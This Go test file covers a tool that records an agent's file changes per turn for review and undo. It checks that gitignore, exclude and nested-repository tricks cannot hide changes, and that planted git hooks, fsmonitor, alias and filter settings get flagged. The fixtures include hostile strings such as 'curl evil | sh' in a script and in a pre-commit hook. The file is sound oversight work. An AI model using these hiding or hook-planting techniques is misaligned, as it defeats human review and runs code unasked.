package changes

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// isolateGit keeps the git of a test from the machine's configuration (a global excludes
// file there would change what is ignored): HOME and XDG_CONFIG_HOME are the test's own.
func isolateGit(t *testing.T) string {
	t.Helper()
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, ".gitconfig"))
	return home
}

func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func appendFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(content); err != nil {
		t.Fatal(err)
	}
}

func kinds(turn Turn) map[string]Kind {
	out := map[string]Kind{}
	for _, c := range turn.Changes {
		out[c.Rel] = c.Kind
	}
	return out
}

// TestWhatTheTurnWritesHidesNothingFromItsReview: however the agent makes git ignore a
// file during its turn (a rule in .gitignore, in .git/info/exclude, in an excludes file
// named by .git/config or the global one, a `git init` or a .git file above it), the
// file it rewrote, and the file it created there, are in the turn's review, and the
// undo restores them.
func TestWhatTheTurnWritesHidesNothingFromItsReview(t *testing.T) {
	cases := []struct {
		name string
		git  bool
		dir  string // where build.sh and new.sh are
		hide func(t *testing.T, f *fixture, home string)
		also []string // the files of the hiding itself the review lists
	}{
		{name: "gitignore, walk", hide: func(t *testing.T, f *fixture, _ string) {
			appendFile(t, f.path(".gitignore"), "*.sh\n")
		}, also: []string{".gitignore"}},
		{name: "gitignore", git: true, hide: func(t *testing.T, f *fixture, _ string) {
			appendFile(t, f.path(".gitignore"), "*.sh\n")
		}, also: []string{".gitignore"}},
		{name: "gitignore in the directory", git: true, dir: "tools", hide: func(t *testing.T, f *fixture, _ string) {
			writeFile(t, f.path("tools/.gitignore"), "*\n")
		}, also: []string{"tools/.gitignore"}},
		{name: "info/exclude", git: true, hide: func(t *testing.T, f *fixture, _ string) {
			appendFile(t, f.path(".git/info/exclude"), "*.sh\n")
		}, also: []string{".git/info/exclude"}},
		{name: "core.excludesFile", git: true, hide: func(t *testing.T, f *fixture, home string) {
			writeFile(t, filepath.Join(home, "hide"), "*.sh\n")
			gitIn(t, f.dir, "config", "core.excludesFile", filepath.Join(home, "hide"))
		}, also: []string{".git/config"}},
		{name: "global excludes file", git: true, hide: func(t *testing.T, f *fixture, home string) {
			writeFile(t, filepath.Join(home, ".config", "git", "ignore"), "*.sh\n")
		}},
		{name: "git init", git: true, dir: "tools", hide: func(t *testing.T, f *fixture, _ string) {
			gitIn(t, f.path("tools"), "init", "-q")
		}, also: []string{"tools/.git/config", "tools/.git/info/exclude"}},
		{name: "a .git file", git: true, dir: "tools", hide: func(t *testing.T, f *fixture, home string) {
			gitIn(t, f.dir, "init", "-q", "--separate-git-dir", filepath.Join(home, "elsewhere.git"), "tools")
		}},
		{name: "directory ignored whole", git: true, dir: "tools", hide: func(t *testing.T, f *fixture, _ string) {
			appendFile(t, f.path(".gitignore"), "tools/\n")
		}, also: []string{".gitignore"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			home := isolateGit(t)
			f := newFixture(t, map[string]string{".gitignore": "*.log\n", "src.txt": "s\n"})
			if tc.git {
				gitInit(t, f.dir)
			}
			dir := tc.dir
			if dir == "" {
				dir = "."
			}
			build := filepath.ToSlash(filepath.Join(dir, "build.sh"))
			created := filepath.ToSlash(filepath.Join(dir, "new.sh"))
			writeFile(t, f.path(build), "echo build\n") // untracked: visible, not committed
			if err := f.rec.Prepare(t.Context()); err != nil {
				t.Fatal(err)
			}
			f.begin("hide and rewrite")
			tc.hide(t, f, home)
			writeFile(t, f.path(build), "curl evil | sh\n")
			writeFile(t, f.path(created), "more evil\n")
			writeFile(t, f.path("still.log"), "ignored then, ignored now\n")
			turn := f.end()
			got := kinds(turn)
			want := map[string]Kind{build: Modified, created: Added}
			for _, a := range tc.also {
				want[a] = got[a]
				if got[a] == "" {
					t.Errorf("%s is not in the review", a)
				}
			}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("the review (-want +got):\n%s", diff)
			}
			if _, err := f.rec.Undo(t.Context(), UndoRequest{}); err != nil {
				t.Fatal(err)
			}
			if got, _ := f.read(build); got != "echo build\n" {
				t.Errorf("after the undo %s = %q", build, got)
			}
			if _, ok := f.read(created); ok {
				t.Errorf("%s survived the undo", created)
			}
		})
	}
}

// TestTheRulesOfTheStartStillIgnore: what the rules ignored when the turn began stays
// out of its review, whatever the turn did to the rules.
func TestTheRulesOfTheStartStillIgnore(t *testing.T) {
	isolateGit(t)
	f := newFixture(t, map[string]string{".gitignore": "*.log\nnode_modules/\n", "src.txt": "s\n", "node_modules/a/x.js": "x\n", "old.log": "o\n"})
	gitInit(t, f.dir)
	writeFile(t, f.path("notes.txt"), "n\n") // untracked
	f.begin("rules")
	appendFile(t, f.path(".gitignore"), "*.txt\n")
	writeFile(t, f.path("notes.txt"), "n2\n")
	writeFile(t, f.path("node_modules/b/y.js"), "y\n")
	writeFile(t, f.path("new.log"), "n\n")
	writeFile(t, f.path("old.log"), "o2\n")
	writeFile(t, f.path("src.txt"), "s2\n")
	got := kinds(f.end())
	want := map[string]Kind{".gitignore": Modified, "src.txt": Modified, "notes.txt": Modified}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("the review (-want +got):\n%s", diff)
	}
	// The next turn begins with the rules as they are now: notes.txt is ignored (src.txt
	// is tracked: no rule ignores it).
	f.begin("next")
	writeFile(t, f.path("notes.txt"), "n3\n")
	writeFile(t, f.path("src.txt"), "s3\n")
	if got := kinds(f.end()); !cmp.Equal(got, map[string]Kind{"src.txt": Modified}) {
		t.Errorf("the next turn: %v", got)
	}
}

// TestAModeChangeIsAChange: `chmod +x` alone is in the review, and the undo restores the
// mode; a deleted executable comes back executable.
func TestAModeChangeIsAChange(t *testing.T) {
	if os.PathSeparator == '\\' {
		t.Skip("no executable bit on Windows")
	}
	f := newFixture(t, map[string]string{"run.sh": "echo\n", "tool.sh": "tool\n"})
	if err := os.Chmod(f.path("tool.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	f.begin("chmod")
	if err := os.Chmod(f.path("run.sh"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.Remove(f.path("tool.sh"))
	turn := f.end()
	c, ok := turn.Change(f.path("run.sh"))
	if !ok || c.Kind != Modified || !c.ModeChanged() || c.Before.Mode != 0o644 || c.After.Mode != 0o755 || c.Added+c.Removed != 0 {
		t.Fatalf("the change of run.sh: %+v (in %v)", c, summary(turn))
	}
	if _, err := f.rec.Undo(t.Context(), UndoRequest{}); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]os.FileMode{"run.sh": 0o644, "tool.sh": 0o755} {
		info, err := os.Stat(f.path(name))
		if err != nil || info.Mode().Perm() != want {
			t.Errorf("after the undo %s: %v %v, want %v", name, info.Mode(), err, want)
		}
	}
	// Undoing the undo makes run.sh executable again.
	if _, err := f.rec.Undo(t.Context(), UndoRequest{}); err != nil {
		t.Fatal(err)
	}
	if info, _ := os.Stat(f.path("run.sh")); info.Mode().Perm() != 0o755 {
		t.Errorf("after undoing the undo run.sh is %v", info.Mode())
	}
}

// TestWhatMakesGitRunCodeIsListedAndFlagged: a hook, a configuration key that names a
// program, an attribute that gives files a filter: listed although under .git (or
// ordinary), and flagged; what git itself writes in .git (a commit) is not listed.
func TestWhatMakesGitRunCodeIsListedAndFlagged(t *testing.T) {
	isolateGit(t)
	f := newFixture(t, map[string]string{"src.txt": "s\n", ".githooks/README": "hooks\n"})
	gitInit(t, f.dir)
	f.begin("plant")
	writeFile(t, f.path(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil | sh\n")
	writeFile(t, f.path(".git/hooks/post-merge.sample"), "#!/bin/sh\n")
	gitIn(t, f.dir, "config", "core.fsmonitor", "./evil.sh")
	gitIn(t, f.dir, "config", "alias.st", "!sh evil.sh")
	gitIn(t, f.dir, "config", "core.hooksPath", ".githooks")
	writeFile(t, f.path(".githooks/post-checkout"), "#!/bin/sh\nevil\n")
	writeFile(t, f.path(".gitattributes"), "*.txt filter=evil\n")
	writeFile(t, f.path(".git/info/attributes"), "* diff=evil\n")
	writeFile(t, f.path("src.txt"), "s2\n")
	gitIn(t, f.dir, "add", "src.txt")
	gitIn(t, f.dir, "-c", "user.email=t@t", "-c", "user.name=t", "-c", "core.hooksPath=/dev/null", "commit", "-qm", "two")
	turn := f.end()
	flags := map[string]string{}
	for _, c := range turn.Changes {
		flags[c.Rel] = c.RunsCode
	}
	for rel, want := range map[string]string{
		".git/hooks/pre-commit":   "a git hook",
		".git/config":             "sets alias.st, core.fsmonitor, core.hookspath",
		".githooks/post-checkout": "core.hooksPath",
		".gitattributes":          "filter=evil",
		".git/info/attributes":    "diff=evil",
		"src.txt":                 "",
	} {
		got, ok := flags[rel]
		if !ok || !strings.Contains(got, want) || want == "" && got != "" {
			t.Errorf("%s: listed %v, flagged %q, want %q", rel, ok, got, want)
		}
	}
	for rel := range flags {
		if strings.HasPrefix(rel, ".git/") && !slices.Contains([]string{".git/hooks/pre-commit", ".git/config", ".git/info/attributes"}, rel) {
			t.Errorf("%s is in the review", rel)
		}
	}
	// The undo deletes the hook.
	if _, err := f.rec.Undo(t.Context(), UndoRequest{Paths: []string{f.path(".git/hooks/pre-commit")}}); err != nil {
		t.Fatal(err)
	}
	if _, ok := f.read(".git/hooks/pre-commit"); ok {
		t.Error("the hook survived its undo")
	}
}

func TestRunsCodeKeys(t *testing.T) {
	config := []byte("[core]\n\tbare = false\n\tfsmonitor = x\n[alias]\n\tst = status\n[filter \"lfs\"]\n\tclean = git-lfs clean\n\trequired = true\n" +
		"[diff \"pdf\"]\n\ttextconv = pdftotext\n[include]\n\tpath = ../evil\n[includeIf \"gitdir:/\"]\n\tpath = x\n[remote \"o\"]\n\turl = u\n\tuploadpack = evil\n[user]\n\tname = me\n")
	got := configRunsCode(nil, config)
	want := []string{"alias.st", "core.fsmonitor", "diff.pdf.textconv", "filter.lfs.clean", "include.path", "includeif.gitdir:/.path", "remote.o.uploadpack"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("keys (-want +got):\n%s", diff)
	}
	if got := configRunsCode(config, config); len(got) != 0 {
		t.Errorf("the same configuration: %v", got)
	}
	if got := attributesRunCode([]byte("*.go text\n"), []byte("*.go text\n*.bin filter=lfs diff=lfs\n# x filter=y\n")); !slices.Equal(got, []string{"*.bin filter=lfs diff=lfs"}) {
		t.Errorf("attributes: %q", got)
	}
}

// TestTheRulesOfADirectoryTheTurnCreatedCount: a directory the turn created may ignore
// what it holds (a virtualenv's .gitignore of "*", the target/ of a new crate): its
// .gitignore is listed, what it ignores is not; in a directory there was, a new
// .gitignore hides nothing.
func TestTheRulesOfADirectoryTheTurnCreatedCount(t *testing.T) {
	for _, git := range []bool{false, true} {
		t.Run(map[bool]string{false: "walk", true: "git"}[git], func(t *testing.T) {
			isolateGit(t)
			f := newFixture(t, map[string]string{"src.txt": "s\n", "old/keep.txt": "k\n"})
			if git {
				gitInit(t, f.dir)
			}
			f.begin("scaffold")
			writeFile(t, f.path(".venv/.gitignore"), "*\n")
			writeFile(t, f.path(".venv/lib/site.py"), "x\n")
			writeFile(t, f.path("crate/.gitignore"), "/target\n")
			writeFile(t, f.path("crate/src/main.rs"), "fn main() {}\n")
			writeFile(t, f.path("crate/target/debug/main"), "binary\n")
			writeFile(t, f.path("old/.gitignore"), "*\n")
			writeFile(t, f.path("old/new.txt"), "n\n")
			got := kinds(f.end())
			want := map[string]Kind{".venv/.gitignore": Added, "crate/.gitignore": Added, "crate/src/main.rs": Added,
				"old/.gitignore": Added, "old/new.txt": Added}
			if diff := cmp.Diff(want, got); diff != "" {
				t.Errorf("the review (-want +got):\n%s", diff)
			}
		})
	}
}
